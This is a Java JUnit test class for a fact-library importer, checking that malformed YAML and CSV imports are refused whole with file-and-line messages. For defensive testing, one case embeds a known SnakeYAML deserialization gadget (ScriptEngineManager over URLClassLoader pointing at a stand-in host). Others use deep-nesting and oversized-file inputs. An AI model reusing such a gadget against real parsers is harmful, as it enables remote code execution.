package org.briefdesk.facts;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.IOException;
import java.io.RandomAccessFile;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

import org.briefdesk.support.BothStores;
import org.briefdesk.support.BriefdeskTest;
import org.briefdesk.support.TestStores;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.springframework.beans.factory.annotation.Autowired;

/**
 * An import is checked whole before anything is written: each kind of bad input is refused
 * with {@code file:line: message}, and the library (and its backups) are left as they were.
 */
@BriefdeskTest
@BothStores
class LibraryImportTest {

	@Autowired
	LibraryImporter importer;

	@Autowired
	List<LibraryEntries> sections;

	@Autowired
	LibraryBackups backups;

	@Autowired
	FactLibrary library;

	@Autowired
	PersonRepository people;

	@TempDir
	Path folder;

	private Map<String, List<Map<String, Object>>> before;

	private int backupsBefore;

	@BeforeEach
	void rememberTheLibrary() {
		this.before = snapshot();
		this.backupsBefore = backupCount();
	}

	/** The embedded library's backups; a library on a server has none of Briefdesk's (they are the server's job). */
	private int backupCount() {
		return TestStores.postgres() ? 0 : this.backups.list().size();
	}

	@AfterEach
	void removeImportedPeople() {
		this.people.ids().stream().filter(id -> id.startsWith("import-")).forEach(this.people::delete);
	}

	private Map<String, List<Map<String, Object>>> snapshot() {
		Map<String, List<Map<String, Object>>> all = new LinkedHashMap<>();
		this.sections.forEach(section -> all.put(section.key(), section.export()));
		return all;
	}

	private Path file(String name, String content) throws IOException {
		Path file = this.folder.resolve(name);
		Files.writeString(file, content, StandardCharsets.UTF_8);
		return file;
	}

	/** Imports, expects a refusal, and checks that the library and its backups did not change. */
	private List<Problem> refused(Path path) {
		Throwable thrown = org.assertj.core.api.Assertions.catchThrowable(() -> this.importer.importPath(path, false));
		assertThat(thrown).isInstanceOf(ImportRefusedException.class);
		assertThat(snapshot()).isEqualTo(this.before);
		assertThat(backupCount()).isEqualTo(this.backupsBefore);
		return ((ImportRefusedException) thrown).problems();
	}

	@Test
	void aDanglingReferenceIsRefusedWithFileAndLine() throws IOException {
		Path file = file("people.yaml", """
				people:
				  - id: import-one
				    name: One Person
				    organisation: unodc
				  - id: import-two
				    name: Two Person
				    organisation: no-such-org
				""");
		List<Problem> problems = refused(file);
		assertThat(problems).singleElement().hasToString(file + ":7: person 'import-two': no organisation 'no-such-org' (`org list` shows the ids)");
	}

	@Test
	void anUnknownKeyIsRefusedWithTheNearestKnownKey() throws IOException {
		Path file = file("people.yaml", "people:\n  - id: import-one\n    nmae: One Person\n");
		List<Problem> problems = refused(file);
		assertThat(problems).extracting(Problem::toString)
			.anySatisfy(line -> assertThat(line).startsWith(file + ":3: unknown key 'nmae' in person; did you mean 'name'?"));
	}

	@Test
	void aMissingRequiredFieldIsRefused() throws IOException {
		Path file = file("people.yaml", "people:\n  - id: import-one\n    title: Director\n");
		assertThat(refused(file)).extracting(Problem::toString)
			.containsExactly(file + ":2: person 'import-one' has no 'name'");
	}

	@Test
	void aValueOfTheWrongTypeIsRefused() throws IOException {
		Path file = file("more.yaml", """
				people:
				  - id: import-one
				    name: [One, Person]
				statistics:
				  - id: import-stat
				    statement: Many.
				    value: many
				    publisher: UNODC
				    source-date: 2024
				organisations:
				  - id: import-org
				    name: Org
				    member: perhaps
				""");
		assertThat(refused(file)).extracting(Problem::toString)
			.contains(file + ":3: 'name' should be text, not a list", file + ":7: 'value' should be a number, not 'many'",
					file + ":13: 'member' should be true or false, not 'perhaps'");
	}

	@Test
	void aDuplicateIdInTheImportIsRefused() throws IOException {
		Path file = file("people.yaml", """
				people:
				  - id: import-one
				    name: One
				  - id: import-one
				    name: Another One
				""");
		assertThat(refused(file)).extracting(Problem::toString)
			.containsExactly(file + ":4: duplicate id: person 'import-one' is also at " + file + ":2");
	}

	@Test
	void anIdAlreadyInTheLibraryIsRefusedWithoutUpdate() throws IOException {
		Path file = file("people.yaml", "people:\n  - id: gehrke\n    name: Someone Else\n");
		assertThat(refused(file)).extracting(Problem::toString)
			.singleElement()
			.asString()
			.startsWith(file + ":2: person 'gehrke' is already in the library");
	}

	@Test
	void anchorsAndAliasesAreRefused() throws IOException {
		Path file = file("people.yaml", """
				people:
				  - id: import-one
				    name: &who One Person
				  - id: import-two
				    name: *who
				""");
		assertThat(refused(file)).extracting(Problem::toString)
			.contains(file + ":3: anchors (&who) are not allowed; write values out in full",
					file + ":5: aliases (*who) are not allowed; write the value out in full");
	}

	@Test
	void tagsAreRefused() throws IOException {
		Path file = file("people.yaml", """
				people:
				  - id: import-one
				    name: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://x/"]]]]
				""");
		assertThat(refused(file)).extracting(Problem::toString)
			.first()
			.asString()
			.startsWith(file + ":3: tags (tag:yaml.org,2002:javax.script.ScriptEngineManager) are not allowed");
	}

	@Test
	void duplicateKeysAreRefused() throws IOException {
		Path file = file("people.yaml", "people:\n  - id: import-one\n    name: One\n    name: Two\n");
		assertThat(refused(file)).extracting(Problem::toString)
			.containsExactly(file + ":4: duplicate key 'name' (first at line 3)");
	}

	@Test
	void anUnknownSectionIsRefused() throws IOException {
		Path file = file("people.yaml", "peple:\n  - id: import-one\n    name: One\n");
		assertThat(refused(file)).extracting(Problem::toString)
			.singleElement()
			.asString()
			.startsWith(file + ":1: unknown section 'peple'");
	}

	@Test
	void brokenYamlIsRefusedWithItsLine() throws IOException {
		Path file = file("people.yaml", "people:\n  - id: import-one\n    name: \"One\n  - id: x\n");
		assertThat(refused(file)).singleElement().satisfies(problem -> {
			assertThat(problem.file()).isEqualTo(file.toString());
			assertThat(problem.line()).isPositive();
			assertThat(problem.message()).startsWith("not valid YAML");
		});
	}

	@Test
	void aFileOverTenMegabytesIsRefusedUnread() throws IOException {
		Path file = this.folder.resolve("huge.yaml");
		try (RandomAccessFile huge = new RandomAccessFile(file.toFile(), "rw")) {
			huge.setLength(10L * 1024 * 1024 + 1);
		}
		assertThat(refused(file)).extracting(Problem::toString)
			.containsExactly(file + ": the file is larger than 10 MB (10 MB); split it into smaller files");
	}

	@Test
	void oneBadFileInAFolderImportsNothingFromTheOthers() throws IOException {
		file("a-people.yaml", "people:\n  - id: import-good\n    name: Good Person\n");
		Path bad = file("b-quotes.yaml", "quotes:\n  - person: import-good\n    text: Hello.\n    date: 2025-13-01\n");
		List<Problem> problems = refused(this.folder);
		assertThat(problems).extracting(Problem::file).containsOnly(bad.toString());
		assertThat(this.people.exists("import-good")).isFalse();
	}

	@Test
	void thousandsOfBadRecordsShowTheFirstTwentyAndTheCount() throws IOException {
		StringBuilder yaml = new StringBuilder("people:\n");
		for (int i = 1; i <= 3000; i++) {
			yaml.append("  - id: bad-").append(i).append("\n    email: not-an-address\n");
		}
		Path file = file("people.yaml", yaml.toString());
		Throwable thrown = org.assertj.core.api.Assertions.catchThrowable(() -> this.importer.importPath(file, false));
		List<Problem> problems = ((ImportRefusedException) thrown).problems();
		assertThat(problems).hasSizeGreaterThanOrEqualTo(3000);
		String[] lines = thrown.getMessage().split("\n");
		assertThat(lines).hasSize(22);
		assertThat(lines[0]).isEqualTo("nothing was imported; " + problems.size() + " problems (the first 20 below):");
		assertThat(lines[1]).startsWith(file + ":2: ");
		assertThat(lines[21]).isEqualTo("… and " + (problems.size() - 20) + " more; fix these and import again to see the rest");
		assertThat(this.people.findAll()).noneMatch(person -> person.id().startsWith("bad-"));
	}

	@Test
	void yamlNestedTooDeepIsRefusedWithItsLine() throws IOException {
		StringBuilder yaml = new StringBuilder("people:\n  - id: deep\n    name: Deep\n    notes: ");
		yaml.append("[".repeat(5000)).append("]".repeat(5000)).append('\n');
		Path flow = file("people.yaml", yaml.toString());
		assertThat(refused(flow)).singleElement().asString()
			.startsWith(flow + ":4: nested more than 32 levels deep here");
		StringBuilder block = new StringBuilder("people:\n");
		for (int i = 1; i <= 40; i++) {
			block.append("  ".repeat(i)).append("- x:\n");
		}
		Path nested = file("organisations.yaml", block.toString());
		assertThat(refused(nested)).singleElement().asString().matches(java.util.regex.Pattern.quote(nested.toString())
				+ ":\\d+: nested more than 32 levels deep here; .*");
	}

	@Test
	void everyProblemIsReportedAtOnce() throws IOException {
		Path file = file("people.yaml", """
				people:
				  - id: Import One
				    name: One
				  - id: import-two
				  - id: import-three
				    name: Three
				    email: not-an-address
				""");
		Throwable thrown = org.assertj.core.api.Assertions.catchThrowable(() -> this.importer.importPath(file, false));
		assertThat(((ImportRefusedException) thrown).problems()).hasSize(3);
		assertThat(thrown.getMessage()).startsWith("nothing was imported; 3 problems:\n" + file + ":2: ");
	}

	@Test
	void aCsvWithAnUnknownColumnIsRefused() throws IOException {
		Path file = file("people.csv", "id,name,shoe-size\nimport-one,One,42\n");
		assertThat(refused(file)).extracting(Problem::toString)
			.singleElement()
			.asString()
			.startsWith(file + ":1: unknown column 'shoe-size'");
	}

	@Test
	void aCsvRowWithADanglingReferenceIsRefusedWithItsLine() throws IOException {
		Path file = file("people.csv", "id,name,organisation\nimport-one,One,unodc\n\"import-two\",\"Two\nPerson\",nowhere\n");
		assertThat(refused(file)).extracting(Problem::toString)
			.containsExactly(file + ":3: person 'import-two': no organisation 'nowhere' (`org list` shows the ids)");
	}

	@Test
	void aGoodFileIsImportedAfterABackupOfAnEmbeddedLibrary() throws IOException {
		Path file = file("people.yaml", """
				people:
				  - name: Import Zoë Poznańska
				    organisation: cbss
				""");
		LibraryImporter.Result result = this.importer.importPath(file, false);
		assertThat(result.summary()).isEqualTo("1 person");
		assertThat(result.backup().isPresent()).as("backed up first (embedded store only)").isEqualTo(!TestStores.postgres());
		assertThat(this.people.findById("import-zoe-poznanska")).map(Person::name).contains("Import Zoë Poznańska");
	}

	@Test
	void aCsvOfPeopleIsImported() throws IOException {
		Path file = file("people-2025.csv", "id,honorific,name,organisation,email\nimport-csv,Ms,Import Csv,iom,'=csv@example.org\n");
		this.importer.importPath(file, false);
		Person imported = this.people.findById("import-csv").orElseThrow();
		assertThat(imported.honorific()).isEqualTo("Ms");
		assertThat(imported.email()).isEqualTo("=csv@example.org");
	}

	@Test
	void aCsvWhoseNameDoesNotSayWhatItHoldsIsReadByItsHeader() throws IOException {
		Path file = file("new-people.csv", "id,honorific,name,title,organisation\nimport-header,Ms.,Import Header,Officer,iom\n");
		this.importer.importPath(file, false);
		assertThat(this.people.findById("import-header")).map(Person::title).contains("Officer");
	}

	@Test
	void updateReplacesAFactWithTheSameId() throws IOException {
		this.library.add(new Person("import-upd", null, "Before", null, null, null, null, null));
		Path file = file("people.yaml", "people:\n  - id: import-upd\n    name: After\n    title: Director\n");
		this.importer.importPath(file, true);
		assertThat(this.people.findById("import-upd")).map(Person::title).contains("Director");
	}

	@Test
	void aQuoteWhoseSourceIsOneLineOfTextStillImportsWithThatLineAsItsTitle() throws IOException {
		Path file = file("quotes.yaml", """
				quotes:
				  - id: import-old-quote
				    person: gehrke
				    text: Words.
				    date: 2018-06-14
				    source: ICAT, ICAT Briefing to Member States
				""");
		this.importer.importPath(file, false);
		try {
			Quote imported = this.library.get(FactKind.QUOTE, "import-old-quote");
			assertThat(imported.source()).isEqualTo("ICAT, ICAT Briefing to Member States");
			assertThat(imported.publisher()).isNull();
			assertThat(imported.sourceRef().citation()).isEqualTo("“ICAT, ICAT Briefing to Member States”");
		}
		finally {
			this.library.remove(FactKind.QUOTE, "import-old-quote");
		}
	}

}
